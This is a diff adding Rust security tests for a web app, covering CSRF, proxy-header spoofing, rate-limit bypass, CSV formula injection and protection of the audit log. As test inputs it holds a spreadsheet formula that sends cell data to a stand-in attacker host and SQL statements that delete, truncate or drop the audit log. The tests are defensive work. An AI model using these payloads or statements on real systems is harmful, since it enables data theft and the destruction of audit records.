@@ -1,0 +1,372 @@
+//! Where a request comes from and what it may carry: cross-site request forgery (issue item 2),
+//! client addresses behind a proxy (4), rate-limit bypass and idempotency storage (5),
+//! malformed server-function bodies (12), formula injection in the audit CSV (12), what an
+//! officer learns in an emergency (8) and the database role the app runs as (11).
+
+use reqwest::StatusCode;
+use reqwest::header::{ACCEPT, CONTENT_TYPE, ORIGIN};
+use sea_orm::{ColumnTrait, ConnectionTrait, Database, EntityTrait, QueryFilter, QueryOrder};
+use serde_json::{Value, json};
+
+use app::server::entities::{audit_log, users};
+
+use crate::common::{ADMIN_PASSWORD, Backend, DEMO_PASSWORD, Rest, TestApp};
+use crate::on_both_backends;
+
+const EVIL: &str = "https://evil.example";
+
+async fn role_of(app: &TestApp, email: &str) -> String {
+    let user = users::Entity::find().filter(users::Column::Email.eq(email)).one(&app.state.db).await.unwrap().unwrap();
+    user.role.as_str().to_owned()
+}
+
+async fn user_id(app: &TestApp, email: &str) -> i64 {
+    users::Entity::find().filter(users::Column::Email.eq(email)).one(&app.state.db).await.unwrap().unwrap().id
+}
+
+/// A page on another site (or a sibling origin) posts to GAD with the admin's cookies:
+/// nothing changes, whatever the encoding; the same post from our own page works.
+async fn cross_site_posts_change_nothing(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let admin = app.login("admin@gad.local", ADMIN_PASSWORD).await;
+    let supervisor = user_id(&app, "supervisor@gad.local").await.to_string();
+    let promote = [("id", supervisor.as_str()), ("role", "admin")];
+    let url = app.url("/api/fn/set_user_role");
+
+    // A form auto-submitted by another site (no JavaScript: the browser sends Origin and
+    // Sec-Fetch-Site).
+    let res = admin
+        .post(&url)
+        .header(ORIGIN, EVIL)
+        .header("sec-fetch-site", "cross-site")
+        .header(ACCEPT, "text/html")
+        .form(&promote)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert!(res.headers().get("set-cookie").is_none(), "a refused post writes no session (no flash)");
+    // A sibling origin is "same-site" for SameSite=Lax cookies, but not us.
+    let res = admin
+        .post(&url)
+        .header(ORIGIN, "https://other.gad.example")
+        .header("sec-fetch-site", "same-site")
+        .form(&promote)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    // An old browser without Fetch Metadata still sends Origin.
+    let res = admin.post(&url).header(ORIGIN, EVIL).form(&promote).send().await.unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    // `text/plain` is a "simple request" a page may send anywhere without a preflight.
+    let res = admin
+        .post(&url)
+        .header(CONTENT_TYPE, "text/plain")
+        .body(format!("id={supervisor}&role=admin"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
+    assert_eq!(role_of(&app, "supervisor@gad.local").await, "supervisor", "no forged post changed the role");
+
+    // The REST API with the session cookie is held to the same rule.
+    let res = admin
+        .put(app.url(&format!("/api/v1/users/{supervisor}/active")))
+        .header(ORIGIN, EVIL)
+        .header("sec-fetch-site", "cross-site")
+        .json(&json!({ "active": false }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert_eq!(res.headers()[CONTENT_TYPE], "application/problem+json");
+
+    // Our own page's post goes through.
+    let res = admin
+        .post(&url)
+        .header(ORIGIN, format!("http://{}", app.addr))
+        .header("sec-fetch-site", "same-origin")
+        .header(ACCEPT, "application/json")
+        .form(&promote)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap());
+    assert_eq!(role_of(&app, "supervisor@gad.local").await, "admin");
+}
+on_both_backends!(cross_site_posts_change_nothing);
+
+/// Login CSRF: another site cannot sign the victim's browser into the attacker's account.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn login_from_another_site_is_refused() {
+    let app = TestApp::spawn(Backend::Sqlite).await;
+    let client = TestApp::client();
+    let res = client
+        .post(app.url("/api/fn/login"))
+        .header(ORIGIN, EVIL)
+        .header("sec-fetch-site", "cross-site")
+        .header(ACCEPT, "text/html")
+        .form(&[("email", "supervisor@gad.local"), ("password", DEMO_PASSWORD)])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert!(res.headers().get("set-cookie").is_none());
+    let me = client.get(app.url("/api/v1/me")).send().await.unwrap();
+    assert_eq!(me.status(), StatusCode::UNAUTHORIZED, "no session was opened");
+}
+
+/// A token integration (no browser, no Origin) keeps working; a browser request from another
+/// site with a token it stole is still refused (it would be a cross-site write).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn token_clients_without_a_browser_pass() {
+    let app = TestApp::spawn(Backend::Sqlite).await;
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    let (status, body) = sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+}
+
+/// Malformed server-function bodies are the caller's error (400/413), never a 500.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn malformed_server_function_bodies_are_client_errors() {
+    let app = TestApp::spawn(Backend::Sqlite).await;
+    let admin = app.login("admin@gad.local", ADMIN_PASSWORD).await;
+    let post = |name: &str, content_type: &'static str, body: Vec<u8>| {
+        admin
+            .post(app.url(&format!("/api/fn/{name}")))
+            .header(CONTENT_TYPE, content_type)
+            .header(ACCEPT, "application/json")
+            .body(body)
+    };
+    let form = "application/x-www-form-urlencoded";
+    let cases: Vec<(&str, reqwest::RequestBuilder)> = vec![
+        ("missing field", post("set_user_role", form, b"id=1".to_vec())),
+        ("wrong type", post("set_user_role", form, b"id=uno&role=admin".to_vec())),
+        ("invalid utf-8", post("set_user_role", form, b"id=1&role=\xff\xfe".to_vec())),
+        ("bad json", post("create_user", "application/json", b"{\"new\": ".to_vec())),
+        ("json missing field", post("create_user", "application/json", b"{}".to_vec())),
+    ];
+    for (what, request) in cases {
+        let res = request.send().await.unwrap();
+        let status = res.status();
+        let body: Value = res.json().await.unwrap_or(Value::Null);
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {body}");
+        assert!(body["message"].as_str().is_some_and(|m| m.contains("no es válida")), "{what}: {body}");
+    }
+    let huge = vec![b'a'; 3 * 1024 * 1024];
+    let res = post("login", form, [b"email=".as_slice(), &huge, b"&password=x"].concat()).send().await.unwrap();
+    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// Behind a proxy: without configuration `X-Forwarded-For` is ignored (a client cannot pick
+/// the address it is limited and audited under); from a configured proxy it names the client,
+/// so one client's failed logins do not lock everyone out.
+async fn forwarded_for_only_from_trusted_proxies(backend: Backend) {
+    let direct = TestApp::spawn_with(backend, &[("GAD_LOGIN_RATE_LIMIT_PER_MINUTE", "3")]).await;
+    let client = TestApp::client();
+    let login = |ip: String, email: &'static str, password: &'static str| {
+        client
+            .post(direct.url("/api/fn/login"))
+            .header("x-forwarded-for", ip)
+            .header(ACCEPT, "application/json")
+            .form(&[("email", email), ("password", password)])
+            .send()
+    };
+    for n in 0..2 {
+        let res = login(format!("198.51.100.{n}"), "nadie@gad.local", "x").await.unwrap();
+        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    }
+    let res = login("198.51.100.9".into(), "admin@gad.local", ADMIN_PASSWORD).await.unwrap();
+    assert!(res.status().is_success(), "{}", res.status());
+    let last = audit_log::Entity::find().order_by_desc(audit_log::Column::Id).one(&direct.state.db).await.unwrap();
+    let last = last.unwrap();
+    assert_eq!((last.action.as_str(), last.ip.as_deref()), ("auth.login", Some("127.0.0.1")), "the header was believed");
+    let res = login("198.51.100.10".into(), "nadie@gad.local", "x").await.unwrap();
+    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS, "a made-up header does not buy a fresh budget");
+
+    let proxied = TestApp::spawn_with(
+        backend,
+        &[("GAD_LOGIN_RATE_LIMIT_PER_MINUTE", "3"), ("GAD_TRUSTED_PROXIES", "127.0.0.0/8")],
+    )
+    .await;
+    let attempt = |ip: &'static str| {
+        client
+            .post(proxied.url("/api/fn/login"))
+            .header("x-forwarded-for", ip)
+            .header(ACCEPT, "application/json")
+            .form(&[("email", "nadie@gad.local"), ("password", "x")])
+            .send()
+    };
+    for _ in 0..3 {
+        assert_eq!(attempt("203.0.113.66").await.unwrap().status(), StatusCode::UNAUTHORIZED);
+    }
+    assert_eq!(attempt("203.0.113.66").await.unwrap().status(), StatusCode::TOO_MANY_REQUESTS);
+    // Another client behind the same proxy still signs in.
+    let res = client
+        .post(proxied.url("/api/fn/login"))
+        .header("x-forwarded-for", "203.0.113.7")
+        .header(ACCEPT, "application/json")
+        .form(&[("email", "admin@gad.local"), ("password", ADMIN_PASSWORD)])
+        .send()
+        .await
+        .unwrap();
+    assert!(res.status().is_success(), "{}", res.status());
+    let last = audit_log::Entity::find().order_by_desc(audit_log::Column::Id).one(&proxied.state.db).await.unwrap();
+    let last = last.unwrap();
+    assert_eq!((last.action.as_str(), last.ip.as_deref()), ("auth.login", Some("203.0.113.7")));
+}
+on_both_backends!(forwarded_for_only_from_trusted_proxies);
+
+/// A random `Authorization` header per request does not escape the limit: only a valid token
+/// has a budget of its own.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn made_up_tokens_share_the_address_budget() {
+    let app = TestApp::spawn_with(Backend::Sqlite, &[("GAD_RATE_LIMIT_PER_MINUTE", "5")]).await;
+    let http = reqwest::Client::new();
+    let mut statuses = Vec::new();
+    for n in 0..8 {
+        let res =
+            http.get(app.url("/api/v1/tasks")).bearer_auth(format!("gad_inventado{n}")).send().await.unwrap();
+        statuses.push(res.status().as_u16());
+    }
+    assert_eq!(statuses, [401, 401, 401, 401, 401, 429, 429, 429]);
+    // A real token has its own budget.
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, true).await;
+    assert_eq!(sup.get("/tasks").await.0, StatusCode::OK);
+}
+
+/// Anonymous POSTs with fresh `Idempotency-Key`s store nothing (they could fill Redis); an
+/// authenticated one is kept and replayed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn idempotency_keys_are_kept_for_authenticated_callers_only() {
+    // A Redis database of its own, so its keys can be counted.
+    let redis_url = format!("{}/9", crate::common::redis_url().trim_end_matches('/'));
+    let redis = redis::Client::open(redis_url.as_str()).unwrap();
+    let mut conn = redis.get_multiplexed_async_connection().await.unwrap();
+    let count = |mut conn: redis::aio::MultiplexedConnection| async move {
+        let keys: Vec<String> = redis::cmd("KEYS").arg("gad:idem:*").query_async(&mut conn).await.unwrap();
+        keys.len()
+    };
+    let _: () = redis::cmd("FLUSHDB").query_async(&mut conn).await.unwrap();
+    let app = TestApp::spawn_with(Backend::Postgres, &[("REDIS_URL", &redis_url)]).await;
+    let http = reqwest::Client::new();
+    for n in 0..20 {
+        let res = http
+            .post(app.url("/api/v1/tasks"))
+            .header("idempotency-key", format!("k-{n}-{}", uuid::Uuid::new_v4()))
+            .json(&json!({ "title": "x", "task_type": "patrol" }))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    }
+    assert_eq!(count(conn.clone()).await, 0, "anonymous requests left idempotency records");
+
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    let create = || {
+        sup.request(reqwest::Method::POST, "/tasks")
+            .header("idempotency-key", "una-sola-vez")
+            .json(&json!({ "title": "Ronda única", "task_type": "patrol" }))
+    };
+    let (first, body) = Rest::send(create()).await;
+    let (second, again) = Rest::send(create()).await;
+    assert_eq!((first, second), (StatusCode::CREATED, StatusCode::CREATED));
+    assert_eq!(body["id"], again["id"], "replayed, not created twice");
+    assert_eq!(count(conn).await, 1);
+}
+
+/// Names that a spreadsheet would run (`=HYPERLINK(…)`) reach the audit CSV as text.
+async fn audit_csv_cells_are_not_formulas(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let admin = Rest::sign_in(&app, "admin@gad.local", ADMIN_PASSWORD, false).await;
+    let id = user_id(&app, "supervisor@gad.local").await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")";
+    let (status, body) = admin.patch(&format!("/users/{id}"), &json!({ "first_name": evil })).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    // The supervisor acts, so their name lands in the log's "usuario" column.
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    assert_eq!(sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await.0, StatusCode::CREATED);
+    let csv = admin.request(reqwest::Method::GET, "/audit.csv").send().await.unwrap().text().await.unwrap();
+    let cells: Vec<&str> = csv.lines().flat_map(|line| line.split(',')).collect();
+    assert!(csv.contains("'=HYPERLINK"), "{csv}");
+    assert!(!cells.iter().any(|c| c.trim_start_matches('"').starts_with('=')), "a cell starts a formula:\n{csv}");
+}
+on_both_backends!(audit_csv_cells_are_not_formulas);
+
+/// An officer reports an emergency and the nearest officer is sent; they do not get the
+/// colleagues' names and exact positions, and cannot pick or rank whom to send.
+async fn officers_report_emergencies_without_learning_positions(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let officer = Rest::sign_in(&app, "efectivo1@gad.local", DEMO_PASSWORD, false).await;
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    let (lat, lon) = (-34.6037, -58.3816);
+    // Somebody near and available, so there is someone to leak.
+    let (status, o) = sup
+        .post("/officers", &json!({ "code": "SEC-1", "first_name": "Ana", "last_name": "Cerca", "rank": "Agente", "unit": "Centro" }))
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{o}");
+    let near = o["id"].as_i64().unwrap();
+    let (status, body) = sup.post(&format!("/officers/{near}/positions"), &json!({ "lat": lat + 0.001, "lon": lon })).await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+
+    for assign in [json!("none"), json!({ "nearest": 5 }), json!({ "officers": [near] })] {
+        let (status, body) = officer.post("/emergencies", &json!({ "lat": lat, "lon": lon, "assign": assign })).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{assign}: {body}");
+    }
+    let (status, outcome) = officer.post("/emergencies", &json!({ "lat": lat, "lon": lon })).await;
+    assert_eq!(status, StatusCode::CREATED, "{outcome}");
+    assert_eq!(outcome["candidates"], json!([]));
+    assert_eq!(outcome["assigned_officer_ids"].as_array().map(Vec::len), Some(1), "the nearest was sent");
+    assert!(!outcome.to_string().contains(&format!("{:.4}", lat + 0.001)), "a colleague's position leaked: {outcome}");
+    // A supervisor sees the ranking.
+    let (status, ranked) = sup.post("/emergencies", &json!({ "lat": lat, "lon": lon, "assign": "none" })).await;
+    assert_eq!(status, StatusCode::CREATED);
+    assert!(ranked["candidates"].as_array().is_some_and(|c| !c.is_empty()), "{ranked}");
+}
+on_both_backends!(officers_report_emergencies_without_learning_positions);
+
+/// The app runs as a PostgreSQL role that owns nothing: it works, and it cannot rewrite,
+/// delete, truncate or unprotect the audit log.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_app_role_cannot_alter_the_audit_log() {
+    let owner_url = crate::common::fresh_database(Backend::Postgres).await;
+    let owner = Database::connect(&owner_url).await.unwrap();
+    let role = format!("gad_app_{}", uuid::Uuid::new_v4().simple());
+    owner.execute_unprepared(&format!("CREATE ROLE {role} LOGIN")).await.unwrap();
+    app::server::db::grant_app_role(&owner, &role).await.unwrap();
+    // The owner itself is refused as an app role (it could disable the triggers).
+    assert!(app::server::db::grant_app_role(&owner, "postgres").await.is_err());
+
+    let (base, db_name) = owner_url.rsplit_once('/').unwrap();
+    let app_url = format!("{}/{db_name}", base.replacen("postgres@", &format!("{role}@"), 1));
+    assert_ne!(app_url, owner_url);
+    let app = TestApp::spawn_on(&app_url, &[]).await;
+    // Business as usual: sign in, create, audit appends.
+    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    let (status, body) = sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+
+    let db = Database::connect(&app_url).await.unwrap();
+    for sql in [
+        "UPDATE audit_log SET action = 'nada' WHERE id = (SELECT MIN(id) FROM audit_log)",
+        "DELETE FROM audit_log",
+        "TRUNCATE audit_log",
+        "ALTER TABLE audit_log DISABLE TRIGGER ALL",
+        "DROP TABLE audit_log",
+        "SET session_replication_role = replica",
+    ] {
+        let result = db.execute_unprepared(sql).await;
+        assert!(result.is_err(), "the app role could run: {sql}");
+    }
+    let rows: i64 = db
+        .query_one_raw(sea_orm::Statement::from_string(sea_orm::DatabaseBackend::Postgres, "SELECT COUNT(*) AS n FROM audit_log"))
+        .await
+        .unwrap()
+        .unwrap()
+        .try_get("", "n")
+        .unwrap();
+    assert!(rows > 0);
+    db.close().await.unwrap();
+    owner.close().await.unwrap();
+}
